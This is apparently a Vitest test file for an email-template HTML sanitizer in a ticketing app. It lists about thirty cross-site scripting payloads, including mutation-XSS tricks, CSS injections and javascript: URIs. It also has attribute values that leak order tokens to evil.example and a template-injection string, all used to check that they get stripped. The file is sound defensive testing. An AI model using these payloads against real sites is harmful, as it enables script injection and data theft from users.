import { describe, expect, it } from "vitest";
import { newId } from "#kernel/id.ts";
import { refused } from "#kernel/outcome.ts";
import { notAllowed } from "#ticketing/rights/act-rights.ts";
import { builtInTemplates } from "../letter-template.ts";
import { previewTemplate } from "./preview-template.server.ts";
import { strayBraces } from "./template-form.ts";
import { cleanHtml, removedElements, textOfHtml } from "./template-html.server.ts";
import { writeEdited } from "./write-letter.server.ts";

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/x.png' onload=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=q><button>Trimite</button></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<a href=//evil.example>x</a>",
  "<img src=data:text/html,x><img src=javascript:alert(1)>",
  "<style>@import url(https://evil.example/x.css); * {background:url(javascript:alert(1))}</style>",
  "<div style='background:url(https://evil.example/x)'>x</div>",
  "<div style='background: red\n url(//evil.example/x)'>x</div>",
  "<div style='background: red\u2028url(//evil.example/x)'>x</div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<div style='position:fixed;top:0;left:0;z-index:99;inset:0'>x</div>",
  "<div style='behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
  "<div style='background-image:\\75rl(https://evil.example)'>x</div>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
  "<object data=x></object><embed src=x><link rel=stylesheet href=x><video src=x onerror=alert(1)></video>",
  "<table background='https://evil.example/x.png'><tr><td background=javascript:alert(1)>x</td></tr></table>",
  "<a href=x ping=https://evil.example target=_top onclick=alert(1)>x</a>",
];

describe("a template's HTML", () => {
  it.each(attacks)("comes out harmless: %s", (html) => {
    const clean = cleanHtml(html);
    const elements = [...clean.matchAll(/<([a-z0-9]+)/gi)].map(([, name]) => name?.toLowerCase());
    for (const element of elements) expect("a div img p table tbody tr td".split(" ")).toContain(element);
    expect(clean).not.toMatch(/<[^>]*\s(?:on\w+|ping|target|background|srcdoc|action)=/i);
    expect(clean).not.toMatch(/<[^>]*(?:javascript|vbscript|data):/i);
    expect(clean).not.toMatch(/<[^>]*(?:url|expression|import|binding|position|behavior|\\)/i);
    expect(clean).not.toMatch(/<!--|href="\/\//);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it("is cleaned again after the values are filled in, because two harmless parts can be harmful together", () => {
    const written = writeEdited(
      {
        subject: "s",
        html: '<p>Bună</p><a href="java{{nothing}}script:alert(1)">x</a><a href="{{event_name}}">y</a>',
        text: "",
      },
      { event_name: "javascript:alert(1)" },
    );
    expect(written?.html).not.toMatch(/href="java/);
    expect(written?.text).toBe("Bună\nxy");
  });

  it.each([
    ["img", "src", "https://evil.example/x.png?{{order_link}}"],
    ["img", "src", "https://{{ order_link }}.evil.example/x.png"],
    ["img", "src", "https://evil.example/&#123;&#123;order_link}}"],
    ["a", "href", "https://evil.example/?{{holder_name}}"],
    ["a", "href", "mailto:hot@evil.example?body={{order_link}}"],
  ])("gives no value to another site: an <%s> whose %s is %s loses it", (element, attribute, address) => {
    const html = `<p>Bună</p><${element} ${attribute}='${address}'>x<a href="{{order_link}}">y</a>`;
    expect(removedElements(html)).toEqual([`${element} ${attribute}`]);
    expect(cleanHtml(html)).not.toContain("evil");
    // also in a template that was saved before this was removed
    const written = writeEdited(
      { subject: "s", html, text: "" },
      { order_link: "https://club.example/orders/1?token=secret", holder_name: "Ana" },
    );
    expect(written?.html).not.toContain("evil");
    expect(written?.html).toContain('href="https://club.example/orders/1?token=secret"');
  });

  it("keeps the usual parts of emails: tables, colours, pictures, links, variables", () => {
    const html =
      '<table width="100%" bgcolor="#F6F1E7" style="width:100%;background-color:#F6F1E7"><tbody><tr><td style="padding:14px 32px 18px;border-top:2px dashed #8E8672" align="center">' +
      '<h1>{{event_name}}</h1><img src="{{qr_code_url}}" width="240" alt="Cod {{ticket_code}}" /><a href="https://club.example/?a=1&amp;b=2">Vezi</a></td></tr></tbody></table>';
    expect(cleanHtml(html)).toBe(html);
  });

  it.each(["ticket_confirmation", "season_pass_confirmation", "welcome_email"] as const)(
    "of our own %s stays the same when an administrator edits it",
    (name) => {
      const { html } = builtInTemplates[name]({
        club: { name: "Club", trader: "Club SRL", address: "Plaja", email: "salut@club.example" },
        origin: "https://club.example",
        holdMinutes: 30,
      });
      expect(removedElements(html)).toEqual([]);
      const clean = cleanHtml(html);
      const styles = (text: string) =>
        text
          .replace(/<!--[\s\S]*?-->/g, "")
          .match(/ style="[^"]*"/g)
          ?.map((style) => style.replace(/[\s;]/g, "").replaceAll("&#39;", "'"));
      expect(styles(clean)).toEqual(styles(html));
      expect(textOfHtml(clean)).toContain("{{customer_name}}");
    },
  );

  it("names the removed elements, for the person who wrote them", () => {
    expect(
      removedElements("<html><body><p>x</p><script>1</script><form><input></form></body></html>"),
    ).toEqual(["form", "input", "script"]);
  });
});

it.each([
  ["{{constructor.constructor('x')()}}", ["{{constructor.constructor('x')()}}"]],
  ["{{#each x}}{{/each}}", ["{{#each x}}", "{{/each}}"]],
  ["{{ticket_code", ["{{ticket_code"]],
  ["ticket_code}}", ["}}"]],
  [`${"$"}{7*7}<%= 1 %>{0.__class__} { } {{ticket_code}} {{ anything }}`, []],
])("braces: %s", (text, stray) => expect(strayBraces(text)).toEqual(stray));

it("the preview shows invented data, names unknown variables with their line, and requests nothing (B10-07)", async () => {
  const template = {
    subject: "Biletul tău la {{event_name}}, {{poarta}}",
    html: '<p>{{customer_name}}</p>\n<img src="{{qr_code_url}}"><img src="https://evil.example/x.png">\n<p>Ușa: {{gate_name}}</p><a href="https://evil.example">x</a><script>1</script>',
    text: "",
  };
  const actor = (role: "admin" | "gate") => ({ userId: newId(), role });
  expect(await previewTemplate({ actor: actor("gate"), template })).toEqual(refused(notAllowed));
  const preview = await previewTemplate({ actor: actor("admin"), template });
  if (!preview.ok) throw new Error("an administrator sees the preview");
  const shown = preview.value;
  expect(shown.subject).toBe("Biletul tău la Luna Plină, [poarta necunoscut]");
  expect(shown.html).toContain("Teodora Luca");
  expect(shown.html).toContain("Ușa: [gate_name necunoscut]");
  expect(shown.html).toContain('src="data:image/png;base64,');
  expect(shown.html).toContain("default-src 'none'; img-src data:");
  expect(shown.html).toContain("<a>x</a>");
  expect(shown.html).not.toMatch(/evil/);
  expect(shown.unknown).toEqual([
    { name: "gate_name", line: 3 },
    { name: "poarta", line: 0 },
  ]);
  expect(shown.removed).toEqual(["script"]);
});
